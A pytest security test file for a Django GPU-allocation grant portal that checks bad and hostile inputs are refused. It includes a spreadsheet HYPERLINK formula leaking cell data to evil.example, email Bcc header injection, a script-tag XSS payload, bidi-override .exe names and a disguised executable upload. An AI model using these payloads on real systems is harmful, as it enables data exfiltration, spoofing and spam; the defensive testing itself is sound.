"""Bad-input probes (SPEC §10): each gets a clear 4xx with a message, and nothing changes.

Every probe takes a snapshot of the rows a write could touch (``world_snapshot``) before the
request and compares it after. The probes run against the shared security world: team A's
second application (``app_sealed``) is a submitted draft in a programme that is still open,
so draft edits and uploads reach the validators; ``app_a`` is past its deadline.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import timedelta

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from tests.factories_consortia import pdf_bytes, valid_business_number
from tests.security.conftest import world_snapshot

BIDI = "\u202e"


def message_of(response) -> str:
    """The human message of a 4xx: the API's JSON body or the page's text."""
    if response.get("Content-Type", "").startswith("application/json"):
        return str(response.json())
    return response.content.decode(errors="replace")


def refused(response, status, before, *, contains: str | None = None):
    codes = status if isinstance(status, tuple) else (status,)
    body = message_of(response)
    assert response.status_code in codes, f"expected {codes}, got {response.status_code}: {body[:300]}"
    assert body.strip(), "a refusal must carry a message"
    if contains is not None:
        assert contains.lower() in body.lower(), body[:500]
    assert world_snapshot() == before, "a refused request changed data"


@pytest.fixture
def api(as_actor):
    return lambda name: as_actor(name, api=True)


def _revision(world) -> int:
    world.app_sealed.refresh_from_db()
    return world.app_sealed.revision


# ----------------------------------------------------------------------------- IDOR: writes on others' objects

IDOR = [
    ("application patch", "b_owner", "patch", "/api/v1/applications/{app_a}/", {"title": "x", "revision": 1}),
    ("application submit", "b_owner", "post", "/api/v1/applications/{app_a}/submit/", {}),
    ("application withdraw", "b_owner", "post", "/api/v1/applications/{app_a}/withdraw/", {}),
    ("application submit by member", "a_member", "post", "/api/v1/applications/{app_sealed}/submit/", {}),
    ("consortium invite", "b_owner", "post", "/api/v1/consortia/{consortium_a}/invite/", {"email": "x@example.com"}),
    ("consortium confirm", "b_owner", "post", "/api/v1/consortia/{consortium_a}/confirm/", {}),
    ("assignment declare", "rev_unassigned", "post", "/api/v1/assignments/{asg_ok}/conflict/", {"has_conflict": True}),
    ("score put", "rev_unassigned", "put", "/api/v1/assignments/{asg_ok}/scores/", {"scores": {"technology": 40}}),
    ("score put by officer", "officer", "put", "/api/v1/assignments/{asg_ok}/scores/", {"scores": {"impact": 1}}),
    (
        "appeal file for A",
        "b_owner",
        "post",
        "/api/v1/appeals/",
        {"phase": "{phase}", "application": "{app_a}", "grounds": "misreading", "text": "x"},
    ),  # fmt: skip
    ("appeal decide", "a_owner", "post", "/api/v1/appeals/{appeal_a}/decide/", {"upheld": True, "reasons": "x"}),
    ("run approve", "b_owner", "post", "/api/v1/allocation-runs/{run}/approve/", {}),
    ("run start", "rev_ok", "post", "/api/v1/programmes/{programme}/allocation-runs/", {}),
    ("notice export", "officer", "post", "/api/v1/notice-exports/", {"run": "{run}"}),
    ("programme patch", "a_owner", "patch", "/api/v1/programmes/{programme}/", {"max_teams": 99}),
    ("phase publish", "rev_ok", "post", "/api/v1/phases/{phase}/publish/", {}),
]


def _ids(world) -> dict:
    return {
        "app_a": world.app_a.pk, "app_sealed": world.app_sealed.pk, "consortium_a": world.consortium_a.pk,
        "asg_ok": world.asg_ok.pk, "phase": world.phase.pk, "appeal_a": world.appeal_a.pk, "run": world.run.pk,
        "programme": world.programme.pk,
    }  # fmt: skip


@pytest.mark.parametrize(("actor", "method", "url", "data"), [p[1:] for p in IDOR], ids=[p[0] for p in IDOR])
def test_idor_write_on_others_object(world, api, actor, method, url, data):
    ids = _ids(world)
    payload = {k: (v.format(**ids) if isinstance(v, str) and "{" in v else v) for k, v in data.items()}
    client = api(actor)
    before = world_snapshot()
    response = getattr(client, method)(url.format(**ids), payload, format="json")
    refused(response, (403, 404) if actor in ("officer", "rev_ok") and "scores" not in url else 404, before)


def test_idor_page_attachment_remove(world, as_actor):
    client = as_actor("b_owner")
    before = world_snapshot()
    url = f"/consortia/applications/{world.app_a.pk}/attachments/{world.attachment_a.pk}/remove/"
    refused(client.post(url), 404, before)


def test_idor_read_other_teams_notice_pdf(world, api):
    before = world_snapshot()
    refused(api("b_owner").get(f"/api/v1/award-notices/{world.notice_a.pk}/pdf/"), 404, before)


# ----------------------------------------------------------------------------- late and double submissions


def test_late_submission_is_409_naming_the_deadline(world, api):
    before = world_snapshot()
    response = api("a_owner").post(f"/api/v1/applications/{world.app_a.pk}/submit/")
    refused(response, 409, before, contains="deadline")


def test_late_draft_edit_is_409(world, api):
    before = world_snapshot()
    response = api("a_owner").patch(
        f"/api/v1/applications/{world.app_a.pk}/",
        {"title": "늦은 수정", "revision": world.app_a.revision},
        format="json",
    )
    refused(response, 409, before, contains="deadline")


def test_double_submission_with_the_same_key_makes_one_version(world, api):
    client = api("a_owner")
    url = f"/api/v1/applications/{world.app_sealed.pk}/submit/"
    first = client.post(url, HTTP_IDEMPOTENCY_KEY="double-1")
    assert first.status_code == 200, first.content
    before = world_snapshot()
    second = client.post(url, HTTP_IDEMPOTENCY_KEY="double-1")
    assert second.status_code == 200 and second.json()["replayed"] is True
    assert second.json()["receipt_number"] == first.json()["receipt_number"]
    assert world_snapshot() == before


def test_stale_revision_is_409_with_both_texts(world, api):
    before = world_snapshot()
    response = api("a_owner").patch(
        f"/api/v1/applications/{world.app_sealed.pk}/", {"title": "다른 제목", "revision": 0}, format="json"
    )
    refused(response, 409, before)
    assert "theirs" in response.json()


# ----------------------------------------------------------------------------- uploads


def _exe() -> bytes:
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
        + b"\x00" * 200
        + b"This program cannot be run in DOS mode"
    )


UPLOADS = {
    "renamed exe": ("setup.pdf", _exe),
    "truncated pdf": ("plan.pdf", lambda: pdf_bytes()[:120]),
    "encrypted pdf": ("plan.pdf", lambda: pdf_bytes(encrypt=True)),
    "zero bytes": ("empty.pdf", lambda: b""),
    "html as pdf": ("page.pdf", lambda: b"<html><script>alert(1)</script></html>"),
    "pdf header then garbage": ("plan.pdf", lambda: b"%PDF-1.4\n" + b"\x00garbage" * 50),
}


@pytest.mark.parametrize("name", list(UPLOADS))
def test_malformed_upload_is_refused(world, api, name):
    filename, make = UPLOADS[name]
    before = world_snapshot()
    upload = SimpleUploadedFile(filename, make(), content_type="application/pdf")
    response = api("a_owner").post(
        f"/api/v1/applications/{world.app_sealed.pk}/attachments/", {"file": upload}, format="multipart"
    )
    refused(response, 400, before)


def test_oversize_upload_is_refused(world, api):
    from portal.models import Programme

    Programme.objects.filter(pk=world.open_programme.pk).update(attachment_max_file_mb=1)
    before = world_snapshot()
    upload = SimpleUploadedFile("big.pdf", pdf_bytes(padding=1_200_000), content_type="application/pdf")
    response = api("a_owner").post(
        f"/api/v1/applications/{world.app_sealed.pk}/attachments/", {"file": upload}, format="multipart"
    )
    refused(response, (400, 413), before)


def test_upload_without_a_file_is_refused(world, api):
    before = world_snapshot()
    response = api("a_owner").post(
        f"/api/v1/applications/{world.app_sealed.pk}/attachments/", {"title": "x"}, format="multipart"
    )
    refused(response, 400, before, contains="file")


# ----------------------------------------------------------------------------- GPU counts and budgets

BAD_NUMBERS = [
    ("requested_gpus", "1e3"),
    ("requested_gpus", "-8"),
    ("requested_gpus", -8),
    ("requested_gpus", "8.5"),
    ("requested_gpus", 8.5),
    ("requested_gpus", "１０００"),
    ("requested_gpus", 1001),
    ("requested_gpus", 1008),
    ("requested_gpus", 7),
    ("requested_gpus", 0),
    ("requested_gpus", ""),
    ("requested_gpus", 10**30),
    ("requested_gpus", "eight"),
    ("requested_gpus", [8]),
    ("requested_budget", "1e3"),
    ("requested_budget", -3_000_000_000),
    ("requested_budget", 2_999_999_999),
    ("requested_budget", 5_000_000_001),
    ("requested_budget", 10**40),
    ("requested_budget", "3,000,000,000"),
    ("requested_budget", "３０００００００００"),
]


@pytest.mark.parametrize(("field", "value"), BAD_NUMBERS, ids=[f"{f}={v!r}"[:40] for f, v in BAD_NUMBERS])
def test_out_of_range_or_odd_number_is_refused(world, api, field, value):
    before = world_snapshot()
    response = api("a_owner").patch(
        f"/api/v1/applications/{world.app_sealed.pk}/", {field: value, "revision": _revision(world)}, format="json"
    )
    refused(response, 400, before, contains=field.split("_")[1][:3])


def test_null_gpus_clears_the_draft_and_submission_then_fails(world, api):
    """A draft may be incomplete (SPEC §4): null clears the field; submitting is then a 409."""
    client = api("a_owner")
    url = f"/api/v1/applications/{world.app_sealed.pk}/"
    assert client.patch(url, {"requested_gpus": None, "revision": _revision(world)}, format="json").status_code == 200
    before = world_snapshot()
    refused(client.post(f"{url}submit/"), 409, before)


# ----------------------------------------------------------------------------- registration numbers


def _wrong_check_digit() -> str:
    good = valid_business_number()
    return good[:-1] + str((int(good[-1]) + 1) % 10)


BAD_NUMBERS_BRN = {
    "wrong check digit": _wrong_check_digit,
    "nine digits": lambda: valid_business_number()[:9],
    "eleven digits": lambda: valid_business_number() + "1",
    "letters": lambda: "12a-45-6789b",
    "full-width digits": lambda: "".join(chr(ord(c) + 0xFEE0) for c in valid_business_number()),
    "missing for a company": lambda: "",
}


@pytest.mark.parametrize("case", list(BAD_NUMBERS_BRN))
def test_bad_business_registration_number(world, api, case):
    before = world_snapshot()
    data = {"name_ko": "검증기업", "name_en": "Check Corp", "kind": "sme", "business_number": BAD_NUMBERS_BRN[case]()}
    response = api("a_owner").post("/api/v1/organisations/", data, format="json")
    refused(response, 400, before, contains="business")


# ----------------------------------------------------------------------------- Unicode


@pytest.mark.parametrize(
    "name",
    [f"한빛{BIDI}gpj.exe", "한빛\x07기업", "한빛\x00기업", "Evil\u2066Corp", "한빛\u200b\u200b"],
    ids=["bidi override", "bell", "nul", "isolate", "zero width only suffix"],
)
def test_control_and_bidi_characters_in_organisation_names(world, api, name):
    before = world_snapshot()
    data = {"name_ko": name, "name_en": "Bidi Corp", "kind": "university"}
    refused(api("a_owner").post("/api/v1/organisations/", data, format="json"), 400, before, contains="name")


def test_bidi_override_in_consortium_name(world, api):
    before = world_snapshot()
    data = {"programme": world.open_programme.pk, "name": f"ALPHA{BIDI}txt.exe", "lead_organisation": world.org_a.pk}
    refused(api("a_owner").post("/api/v1/consortia/", data, format="json"), 400, before, contains="name")


def test_bidi_override_in_application_title(world, api):
    before = world_snapshot()
    data = {"title": f"모델{BIDI}fdp.exe", "revision": _revision(world)}
    response = api("a_owner").patch(f"/api/v1/applications/{world.app_sealed.pk}/", data, format="json")
    refused(response, 400, before, contains="title")


def test_decomposed_korean_is_stored_nfc(world, api):
    from consortia.models import Application, Organisation

    decomposed = unicodedata.normalize("NFD", "한빛대학교")
    assert decomposed != "한빛대학교"
    response = api("a_owner").post(
        "/api/v1/organisations/", {"name_ko": decomposed, "name_en": "Hanbit Univ", "kind": "university"}, format="json"
    )
    assert response.status_code == 201, response.content
    assert Organisation.objects.get(pk=response.json()["id"]).name_ko == "한빛대학교"
    title = unicodedata.normalize("NFD", "한국어 모델")
    response = api("a_owner").patch(
        f"/api/v1/applications/{world.app_sealed.pk}/", {"title": title, "revision": _revision(world)}, format="json"
    )
    assert response.status_code == 200, response.content
    assert Application.objects.get(pk=world.app_sealed.pk).title == "한국어 모델"


# ----------------------------------------------------------------------------- injection


def test_stored_script_in_title_is_shown_escaped(world, api, as_actor):
    payload = "<script>alert('x')</script>"
    response = api("a_owner").patch(
        f"/api/v1/applications/{world.app_sealed.pk}/", {"title": payload, "revision": _revision(world)}, format="json"
    )
    assert response.status_code == 200
    for url in (f"/consortia/applications/{world.app_sealed.pk}/review/", "/consortia/applications/"):
        page = as_actor("a_owner").get(url).content.decode()
        assert payload not in page
        assert "&lt;script&gt;" in page


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_in_consortium_name_is_neutralised_in_ranking_export(world, as_actor, fmt):
    from consortia.models import Consortium
    from tests.factories_evaluations import assign, submit_scores

    formula = '=HYPERLINK("http://evil.example/?x="&A1,"보기")'
    Consortium.objects.filter(pk=world.consortium_b.pk).update(name=formula)
    phase = _scoring_phase(world)  # a live ranking (a finalised phase exports its frozen snapshot)
    for application in (world.app_a, world.app_b):
        submit_scores(assign(phase, application, world.users["rev_ok"]), {"technology": 30, "capability": 20})
    client = as_actor("officer")
    response = client.get(f"/evaluations/phases/{phase.pk}/ranking.{fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row]
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert any("HYPERLINK" in c for c in cells), "the consortium should be in the export"
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells if "HYPERLINK" in c)


def test_email_header_injection_in_invitation(world, api):
    mail.outbox.clear()
    consortium = world.app_sealed.consortium
    before = world_snapshot()
    response = api("a_owner").post(
        f"/api/v1/consortia/{consortium.pk}/invite/", {"email": "a@example.com\r\nBcc: all@evil.example"}, format="json"
    )
    refused(response, 400, before, contains="email")
    assert mail.outbox == []


def test_email_header_injection_in_invitation_page(world, as_actor):
    mail.outbox.clear()
    consortium = world.app_sealed.consortium
    client = as_actor("a_owner")
    before = world_snapshot()
    response = client.post(
        f"/consortia/{consortium.pk}/invite/", {"email": "a@example.com\nBcc: all@evil.example", "role": "member"}
    )
    refused(response, 400, before)
    assert mail.outbox == []


# ----------------------------------------------------------------------------- CSRF and brute force


def test_page_post_without_csrf_token_is_403(world):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(world.users["a_owner"])
    before = world_snapshot()
    refused(client.post(f"/consortia/applications/{world.app_sealed.pk}/withdraw/"), 403, before)


def test_session_api_write_without_csrf_token_is_403(world):
    from rest_framework.test import APIClient

    client = APIClient(enforce_csrf_checks=True)
    client.force_login(world.users["a_owner"])
    before = world_snapshot()
    response = client.patch(
        f"/api/v1/applications/{world.app_sealed.pk}/", {"title": "csrf", "revision": _revision(world)}, format="json"
    )
    refused(response, 403, before, contains="csrf")


def test_login_brute_force_is_throttled(world, client):
    """Throttling is covered in depth by tests/portal/test_auth_hardening.py; one probe here."""
    from django.core.cache import cache

    cache.clear()
    client.cookies.load({"django_language": "en"})
    user = world.users["b_owner"]
    for i in range(6):
        last = client.post("/accounts/login/", {"login": user.username, "password": f"wrong-{i}"})
    assert "Too many failed login attempts" in last.content.decode()
    assert "_auth_user_id" not in client.session
    cache.clear()


# ----------------------------------------------------------------------------- scoring and allocation refusals


def _scoring_phase(world, **kwargs):
    from evaluations.enums import PhaseStatus
    from tests.factories_evaluations import selection_phase

    return selection_phase(programme=world.programme, order=5, status=PhaseStatus.SCORING, name="재평가", **kwargs)


def test_scoring_after_the_window_is_409(world, api):
    from tests.factories_evaluations import assign

    now = timezone.now()
    phase = _scoring_phase(world, scoring_opens_at=now - timedelta(days=5), scoring_closes_at=now - timedelta(days=1))
    assignment = assign(phase, world.app_a, world.users["rev_ok"])
    before = world_snapshot()
    response = api("rev_ok").put(
        f"/api/v1/assignments/{assignment.pk}/scores/", {"scores": {"technology": 30}}, format="json"
    )
    refused(response, 409, before)


def test_scoring_a_published_phase_is_409(world, api):
    before = world_snapshot()
    response = api("rev_ok").put(
        f"/api/v1/assignments/{world.asg_ok.pk}/scores/", {"scores": {"impact": 1}}, format="json"
    )
    refused(response, 409, before)


def test_scoring_before_declaring_is_409(world, api):
    from tests.factories_evaluations import assign

    assignment = assign(_scoring_phase(world), world.app_a, world.users["rev_unassigned"], declared=False)
    before = world_snapshot()
    response = api("rev_unassigned").put(
        f"/api/v1/assignments/{assignment.pk}/scores/", {"scores": {"technology": 30}}, format="json"
    )
    refused(response, 409, before, contains="declare")


def test_scoring_while_conflicted_is_refused(world, api):
    """A reviewer who declared a conflict can neither see nor score: 404 (SPEC §2, §5)."""
    before = world_snapshot()
    response = api("rev_conflicted").put(
        f"/api/v1/assignments/{world.asg_conflicted.pk}/scores/", {"scores": {"technology": 30}}, format="json"
    )
    refused(response, 404, before)


def test_scoring_while_affiliated_is_refused(world, api):
    """Affiliated with the team's lead organisation, a reviewer is conflicted automatically."""
    from consortia.models import Affiliation
    from tests.factories_evaluations import assign

    assignment = assign(_scoring_phase(world), world.app_a, world.users["rev_unassigned"])
    Affiliation.objects.create(user=world.users["rev_unassigned"], organisation=world.org_a)
    before = world_snapshot()
    response = api("rev_unassigned").put(
        f"/api/v1/assignments/{assignment.pk}/scores/", {"scores": {"technology": 30}}, format="json"
    )
    refused(response, (404, 409), before)


@pytest.mark.parametrize("value", [41, -1, "12.34", "abc"])
def test_score_out_of_range_is_400(world, api, value):
    from tests.factories_evaluations import assign

    assignment = assign(_scoring_phase(world), world.app_b, world.users["rev_ok"])
    before = world_snapshot()
    response = api("rev_ok").put(
        f"/api/v1/assignments/{assignment.pk}/scores/", {"scores": {"technology": value}}, format="json"
    )
    refused(response, 400, before)


def test_allocation_run_while_another_runs_is_409(world, api):
    from gpu_allocation.enums import RunStatus
    from gpu_allocation.models import AllocationRun

    AllocationRun.objects.create(
        programme=world.programme, status=RunStatus.RUNNING, inputs={}, inputs_sha256="7" * 64,
        created_by=world.users["officer"], started_at=timezone.now(),
    )  # fmt: skip
    before = world_snapshot()
    response = api("officer").post(f"/api/v1/programmes/{world.programme.pk}/allocation-runs/")
    refused(response, 409, before)


def test_allocation_run_before_any_finalised_phase_is_409(world, api):
    from tests.factories import ProgrammeFactory

    programme = ProgrammeFactory(name="빈 사업", year=world.programme.year + 5)
    before = world_snapshot()
    response = api("officer").post(f"/api/v1/programmes/{programme.pk}/allocation-runs/")
    refused(response, 409, before)


def test_probe_count():
    import sys

    module = sys.modules[__name__]
    count = (
        len(IDOR) + len(UPLOADS) + len(BAD_NUMBERS) + len(BAD_NUMBERS_BRN) + 5 + 4 + 5
        + sum(1 for name in dir(module) if name.startswith("test_") and name not in {
            "test_idor_write_on_others_object", "test_malformed_upload_is_refused",
            "test_out_of_range_or_odd_number_is_refused", "test_bad_business_registration_number",
            "test_control_and_bidi_characters_in_organisation_names", "test_score_out_of_range_is_400",
            "test_odd_gpu_count_in_the_draft_form_is_400", "test_probe_count"})
    )  # fmt: skip
    print(f"\nbad-input probes: {count}")
    assert count >= 50


@pytest.mark.parametrize("value", ["１０００", "1e3", "8.5", "-8", "1001"])
def test_odd_gpu_count_in_the_draft_form_is_400(world, as_actor, value):
    """The web form refuses what the API refuses (full-width digits included)."""
    client = as_actor("a_owner")
    before = world_snapshot()
    response = client.post(
        f"/consortia/applications/{world.app_sealed.pk}/step/3/",
        {
            "compute_plan": "계획",
            "requested_gpus": value,
            "requested_budget": "4000000000",
            "revision": _revision(world),
        },
    )
    refused(response, 400, before)
